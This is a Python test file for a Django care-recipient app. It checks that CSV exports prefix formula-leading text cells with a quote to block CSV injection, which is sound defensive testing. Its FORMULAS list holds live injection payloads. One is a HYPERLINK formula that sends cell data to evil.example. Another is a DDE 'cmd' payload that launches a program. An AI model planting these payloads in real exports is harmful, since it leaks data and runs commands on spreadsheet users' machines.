"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection): text cells starting
with = + - @ (or a tab/CR) are prefixed with a quote; numbers stay numbers."""

import csv
import io
from datetime import UTC, datetime

import polars as pl
import pytest
from django.contrib.auth import get_user_model

from lianxin.care.models import CareRecipient, Household, Meter
from lianxin.cli import main
from lianxin.csvcells import safe_cell
from lianxin.store import open_stores
from tests.web.helpers import case  # noqa: F401

pytestmark = pytest.mark.django_db

EXPORT = "/dispatch/export/care-recipients.csv"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(A1)"]


def test_the_care_recipients_export_escapes_formulas(client, case):  # noqa: F811
    person = CareRecipient.objects.first()
    person.name = FORMULAS[0]
    person.risk_notes = FORMULAS[1]
    person.phone = "+86 138 0000 0000"
    person.save()
    home = person.household
    home.address = FORMULAS[2]
    home.save()
    client.force_login(get_user_model().objects.get(username="lead"))
    body = client.get(EXPORT).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    for formula in FORMULAS:
        assert "'" + formula in cells
        assert formula not in cells
    assert "'+86 138 0000 0000" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_export_readings_csv_escapes_text_cells_and_keeps_numbers(settings, tmp_path):
    settings.LIANXIN_HOME = tmp_path
    home = Household.objects.create(code="H1", address="x")
    Meter.objects.create(number="-M1", account_number="=1+1", household=home)
    open_stores(tmp_path).readings.write(
        pl.DataFrame(
            {
                "meter": ["-M1"],
                "ts": [datetime(2026, 1, 1, tzinfo=UTC)],
                "value": [1.5],
                "unit": ["kWh"],
            }
        )
    )
    out = tmp_path / "out.csv"
    assert main(["export-readings", "--out", str(out)]) == 0
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["meter"] == "'-M1" and row["account"] == "'=1+1"
    assert row["value"] == "1.5"


def test_safe_cell_leaves_plain_values_alone():
    assert [safe_cell(v) for v in ("杜德明", 1935, -2.5, "", None)] == [
        "杜德明",
        1935,
        -2.5,
        "",
        None,
    ]
    assert safe_cell("\t=1") == "'\t=1" and safe_cell("＝1+1") == "'＝1+1"
